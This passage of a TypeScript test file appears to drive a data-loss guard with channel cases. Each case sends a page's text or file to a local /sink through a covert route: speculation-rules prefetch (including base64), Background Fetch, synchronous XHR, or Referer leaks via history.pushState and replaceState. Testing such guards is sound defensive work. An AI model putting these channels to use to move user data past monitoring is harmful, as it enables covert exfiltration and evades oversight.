      speculate(page, { prefetch: [{ source: 'list', urls: [`/sink?ch=h7-speculation-late-text&q=${encodeURIComponent(p.text)}`], eagerness: 'immediate' }] }, false, 'text'),
  },
  {
    id: 'h7-speculation-late-range',
    title: 'speculation rules put into the document with an empty text node, then given their text by a Range inside that node (insertNode splits it): an immediate prefetch of a same-origin URL whose query is the text',
    carries: ['text'],
    drive: (page: Page, p: Payload) =>
      speculate(page, { prefetch: [{ source: 'list', urls: [`/sink?ch=h7-speculation-late-range&q=${encodeURIComponent(p.text)}`], eagerness: 'immediate' }] }, false, 'range'),
  },
  {
    id: 'h7-speculation-base64',
    title: 'speculation rules: an immediate prefetch of a URL whose query is the text in base64 (UTF-8, btoa), the nonce beside it in clear',
    carries: ['text'],
    drive: (page: Page, p: Payload) =>
      speculate(page, {
        prefetch: [{ source: 'list', urls: [`/sink?ch=h7-speculation-base64&n=${p.nonce}&q=${Buffer.from(p.text).toString('base64url')}`], eagerness: 'immediate' }],
      }),
  },
  {
    // Document rules prefetch the page's own links: the text is in a link the page wrote, not in the rules.
    // Taken out on a guarded page, so the clean text arrives when the link is followed (the navigation,
    // judged as every navigation is); a marked one's navigation is refused.
    id: 'h7-speculation-document',
    title: 'speculation rules of the document kind (where href_matches /sink*, eagerness immediate) over a link the page adds, whose query is the text; then the link is clicked',
    carries: ['text'],
    drive: async (page: Page, p: Payload) => {
      const at = page.url();
      const link = `/sink?ch=h7-speculation-document&q=${encodeURIComponent(p.text)}`;
      await page.evaluate((link) => {
        const a = document.createElement('a');
        a.id = 'h7spec-click';
        a.href = link;
        a.textContent = 'go';
        document.body.append(a);
      }, link);
      await speculate(page, { prefetch: [{ source: 'document', where: { href_matches: '/sink*' }, eagerness: 'immediate' }] });
      await page.click('#h7spec-click', { noWaitAfter: true, timeout: 3000 }).catch(() => undefined);
      await page.waitForTimeout(1500);
      if (page.url() !== at) await page.goto(at);
      else await page.evaluate(() => document.getElementById('h7spec-click')?.remove());
    },
  },
  {
    id: 'h7-trusted-types',
    title: "a page under Trusted Types (require-trusted-types-for 'script', no policy) that uploads a FormData with fetch",
    assets: { '/asset/h7-tt.html': { type: 'text/html; charset=utf-8', body: TT_PAGE }, '/asset/h7-tt.js': { type: 'text/javascript', body: TT_SCRIPT } },
    drive: async (page: Page, p: Payload) => {
      const tt = await page.context().newPage();
      try {
        await tt.goto(new URL('/asset/h7-tt.html', page.url()).href);
        await tt.evaluate((pp) => (window as unknown as { up(p: unknown): Promise<unknown> }).up(pp), PAGE_PAYLOAD(p)).catch(() => undefined);
        await tt.waitForTimeout(300);
      } finally {
        await tt.close();
      }
    },
  },
  {
    id: 'h7-background-fetch',
    title: "Background Fetch: registration.backgroundFetch.fetch(id, [new Request(url, { method: 'POST', body })]), which the browser sends itself",
    assets: { '/h7-bgf-sw.js': { type: 'text/javascript', body: "self.addEventListener('install', () => self.skipWaiting());" } },
    run: async (p, t) => {
      const reg = await navigator.serviceWorker.register('/h7-bgf-sw.js');
      await navigator.serviceWorker.ready;
      const bf = (reg as unknown as { backgroundFetch?: { fetch(id: string, r: Request[], o?: object): Promise<unknown> } }).backgroundFetch;
      if (!bf) return 'no backgroundFetch';
      const body = p.kind === 'file' ? t.file(p) : p.text;
      const r = await t.settle(bf.fetch(`h7-${p.nonce}`, [new Request(t.url('h7-background-fetch'), { method: 'POST', body })], { title: 'upload' }));
      await t.sleep(1500);
      return r;
    },
  },
  {
    id: 'h7-background-fetch-one',
    title: 'Background Fetch of one Request given alone (not in a list), with the text or the File as its body',
    assets: { '/h7-bgf-sw.js': { type: 'text/javascript', body: "self.addEventListener('install', () => self.skipWaiting());" } },
    run: async (p, t) => {
      const reg = await navigator.serviceWorker.register('/h7-bgf-sw.js');
      await navigator.serviceWorker.ready;
      const bf = (reg as unknown as { backgroundFetch?: { fetch(id: string, r: Request, o?: object): Promise<unknown> } }).backgroundFetch;
      if (!bf) return 'no backgroundFetch';
      const body = p.kind === 'file' ? t.file(p) : p.text;
      const r = await t.settle(bf.fetch(`h7one-${p.nonce}`, new Request(t.url('h7-background-fetch-one'), { method: 'POST', body }), { title: 'upload' }));
      await t.sleep(1500);
      return r;
    },
  },
  {
    id: 'h7-xhr-sync-text',
    title: 'a synchronous XMLHttpRequest (open(…, false)) POSTing the text',
    carries: ['text'],
    run: async (p, t) => {
      const x = new XMLHttpRequest();
      x.open('POST', t.url('h7-xhr-sync-text'), false);
      try {
        x.send(p.text);
        return x.status;
      } catch (e) {
        return (e as Error).name;
      }
    },
  },
  {
    id: 'h7-referer-replacestate',
    title: "history.replaceState(…, '?q=' + the text) (an SPA keeping its search or prompt in the address), then a same-origin GET: its Referer carries the page's URL",
    carries: ['text'],
    run: async (p, t) => {
      const before = location.href;
      history.replaceState(history.state, '', `${location.pathname}?q=${encodeURIComponent(p.text)}`);
      await t.settle(fetch('/sink?ch=h7-referer-replacestate&referer'));
      history.replaceState(history.state, '', before);
    },
  },
  {
    id: 'h7-referer-pushstate-img',
    title: "history.pushState(…, '/search/' + the text) then an analytics image (new Image().src): its Referer carries the page's URL",
    carries: ['text'],
    run: async (p, t) => {
      const before = location.href;
      history.pushState(null, '', `/search/${encodeURIComponent(p.text)}`);
      new Image().src = '/sink?ch=h7-referer-pushstate-img&referer';
      await t.sleep(500);
      history.replaceState(null, '', before);
    },
  },
];

export default [...rows, ...MORE];
